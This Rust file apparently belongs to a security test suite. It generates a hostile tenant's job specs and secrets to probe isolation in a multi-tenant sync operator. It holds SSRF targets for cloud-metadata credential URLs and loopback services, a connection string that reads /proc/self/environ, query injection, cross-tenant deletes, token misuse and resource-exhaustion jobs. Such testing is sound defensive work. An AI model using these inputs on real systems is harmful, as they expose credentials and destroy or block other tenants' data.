//! Objects that the hostile tenant creates. The names are those of the findings in docs/design/tenants.md.

use serde_json::{Value, json};

/// The addresses that attacks use.
pub struct Addresses {
    /// URL of the tenant's own source.
    pub source: String,
    /// URL of the source of the honest tenants.
    pub honest: String,
    /// Port of the server that pretends to be a MongoDB.
    pub mongodb: u16,
    /// Address of the operator's MongoDB.
    pub shared_mongodb: String,
}

/// Specs of SyncJobs, each with the name of a finding and a number. The runs of the last round never end: the other
/// attacks of the tenant wait for them.
pub fn jobs(addresses: &Addresses, is_last_round: bool) -> Vec<(String, Value)> {
    let Addresses { source, honest, .. } = addresses;
    let mut groups = vec![
        ("s1", data_of_others()),
        ("s2", forbidden_addresses(honest)),
        ("s13", tokens(source, honest)),
        ("own", own_mongodb()),
        ("s4", answers(source)),
        ("s12", large_objects()),
        ("rates", slow_rates(source, honest)),
    ];
    if is_last_round {
        groups.push(("s11", endless_runs(source)));
    }
    let numbered = |(group, specs): (&'static str, Vec<Value>)| {
        specs.into_iter().enumerate().map(move |(number, spec)| (format!("{group}-{number}"), spec))
    };
    groups.into_iter().flat_map(numbered).collect()
}

/// A Secret of the tenant, with one entry.
pub struct TenantSecret {
    pub name: &'static str,
    pub key: &'static str,
    pub value: String,
    /// Destinations of its annotation.
    pub hosts: String,
}

pub fn secrets(addresses: &Addresses) -> Vec<TenantSecret> {
    let Addresses { source, mongodb, shared_mongodb, .. } = addresses;
    let own = format!("mongodb://localhost:{mongodb}");
    let uri = |name: &'static str, value: String, hosts: &str| TenantSecret {
        name,
        key: "uri",
        value,
        hosts: hosts.to_owned(),
    };
    let token = "a token of the tenant".to_owned();
    vec![
        TenantSecret { name: "token", key: "token", value: token, hosts: source.clone() },
        uri("own", format!("{own}/crm?replicaSet=own"), &own),
        uri("alone", format!("{own}/crm?directConnection=true"), &own),
        uri("login", format!("mongodb://tenant:password-of-tenant@localhost:{mongodb}/crm"), &own),
        uri("oidc", format!("{own}/crm?authMechanism=MONGODB-OIDC&authMechanismProperties=ENVIRONMENT:k8s"), &own),
        uri("aws", format!("{own}/crm?authMechanism=MONGODB-AWS"), &own),
        uri("file", format!("{own}/crm?tls=true&tlsCertificateKeyFile=/proc/self/environ"), &own),
        uri("shared", format!("{shared_mongodb}/crm"), "mongodb://127.0.0.1"),
    ]
}

fn full(target: &Value) -> Value {
    json!({"syncType": "Full", "activeDeadline": "10s", "backoffLimit": 1, "backoff": {"initial": "1s"}, "target": target})
}

/// A run on the only collection that the tenant may use, with a source.
fn with_source(source: Value) -> Value {
    let mut spec = full(&json!({"collection": "scratch"}));
    spec["source"] = source;
    spec["mapping"] = json!([{"from": "/name", "to": "name", "type": "String"}]);
    spec
}

fn each(endpoint: &str) -> Value {
    json!({"batching": "PerUser", "rest": {"endpoint": endpoint}})
}

fn pages(endpoint: &str, pagination: &Value) -> Value {
    json!({"name": "s", "batching": "Pages", "upsert": true, "pagination": pagination, "rest": {"endpoint": endpoint}})
}

/// S1: read, overwrite and delete the documents of others.
fn data_of_others() -> Vec<Value> {
    let dry = |target: &Value| {
        let mut spec = full(target);
        spec["dryRun"] = true.into();
        spec
    };
    let mut delete = with_source(each("http://127.0.0.66:1/{id}"));
    delete["target"] = json!({"collection": "honest_a_0"});
    delete["source"]["name"] = "s".into();
    delete["source"]["onMissing"] = "Delete".into();
    vec![
        dry(&json!({"collection": "secrets", "keyField": "passwordHash"})),
        dry(&json!({"collection": "scratch", "keyField": "passwordHash"})),
        dry(&json!({"collection": "secrets", "database": "crm"})),
        full(&json!({"collection": "secrets"})),
        full(&json!({"collection": "honest_a_0", "lastSyncedField": "team"})),
        full(&json!({"collection": "scratch", "lastSyncedField": "email"})),
        full(&json!({"collection": "scratch", "filter": {"$where": "sleep(1000)"}})),
        delete,
    ]
}

/// S2: reach addresses that the policy does not allow.
fn forbidden_addresses(honest: &str) -> Vec<Value> {
    let metadata = "http://169.254.169.254/latest/meta-data/iam/security-credentials/{id}";
    let loopback = "http://127.0.0.1:6379/{id}";
    let six = "http://[::1]:9090/{id}";
    let mapped = "http://[::ffff:127.0.0.1]:9090/{id}";
    let all = [metadata, loopback, six, mapped, "http://168.63.129.16/{id}", "http://0x7f.1/{id}"];
    let honest = format!("{honest}/stolen/{{id}}");
    all.into_iter().chain([honest.as_str()]).map(|endpoint| with_source(each(endpoint))).collect()
}

/// S4: exhaust the memory of workers and of Redis.
fn answers(source: &str) -> Vec<Value> {
    let mut specs: Vec<Value> = ["bomb", "values", "deep", "compressed", "drip", "redirect", "later", "none"]
        .into_iter()
        .map(|path| with_source(each(&format!("{source}/{path}?id={{id}}"))))
        .collect();
    let numbered = |path: &str| pages(&format!("{source}/{path}?page={{page}}"), &json!({"by": "Number"}));
    specs.extend(["late-bomb", "endless"].map(|path| with_source(numbered(path))));
    let mut cursor = pages(&format!("{source}/cursor?after={{after}}"), &json!({"nextPath": "/next"}));
    cursor["resultPath"] = "/items".into();
    specs.push(with_source(cursor));
    specs.push(with_source(pages(&format!("{source}/link"), &json!({"by": "Link"}))));
    for path in ["bomb", "values"] {
        let mut many = with_source(each(&format!("{source}/{path}?id={{id}}")));
        many["parallelism"] = 64.into();
        many["batchSize"] = 1.into();
        many["source"]["concurrency"] = 64.into();
        specs.push(many);
    }
    let mut dry = with_source(numbered("endless"));
    dry["dryRun"] = true.into();
    specs.push(dry);
    specs
}

/// S11: occupy all slots for a year.
fn endless_runs(source: &str) -> Vec<Value> {
    let endless = || {
        let mut spec = with_source(each(&format!("{source}/silent?id={{id}}")));
        spec["source"]["timeout"] = "10m".into();
        spec["priority"] = 1000.into();
        spec["parallelism"] = 64.into();
        spec["activeDeadline"] = "8760h".into();
        spec
    };
    (0..12).map(|_| endless()).collect()
}

/// S12: objects of nearly the largest size.
fn large_objects() -> Vec<Value> {
    let large = || {
        let mut spec = full(&json!({"collection": "scratch", "filter": {"name": {"$ne": "x".repeat(1_000_000)}}}));
        spec["suspended"] = true.into();
        spec
    };
    (0..4).map(|_| large()).collect()
}

/// S13: use tokens of others, and own ones for other purposes.
fn tokens(source: &str, honest: &str) -> Vec<Value> {
    let with_token = |secret: &str, endpoint: &str| {
        let mut part = each(endpoint);
        part["tokenSecretRef"] = json!({"name": secret, "key": "token"});
        with_source(part)
    };
    let mutation = json!({
        "batching": "PerUser", "tokenSecretRef": {"name": "token", "key": "token"},
        "graphQL": {"endpoint": source, "resultPath": "/data", "query": "mutation($id: ID!) { projectDelete(id: $id) { id } }"},
    });
    vec![
        with_token("honest", &format!("{source}/none?id={{id}}")),
        with_token("honest", &format!("{honest}/stolen/{{id}}")),
        with_token("token", &format!("{source}/redirect?id={{id}}")),
        with_source(mutation),
    ]
}

/// Connection strings that reach other servers, or that send an identity of the operator.
fn own_mongodb() -> Vec<Value> {
    let of = |name: &str| full(&json!({"collection": "users", "uriSecretRef": {"name": name, "key": "uri"}}));
    ["own", "own", "alone", "alone", "alone", "login", "oidc", "aws", "file", "shared"].map(of).into()
}

/// S3: slow rates for the addresses of others.
fn slow_rates(source: &str, honest: &str) -> Vec<Value> {
    let slow = |endpoint: String| {
        let mut part = each(&endpoint);
        part["rateLimit"] = json!({"requests": 1, "per": "1m"});
        with_source(part)
    };
    vec![slow(format!("{honest}/users/{{id}}")), slow(format!("{source}/none?id={{id}}"))]
}
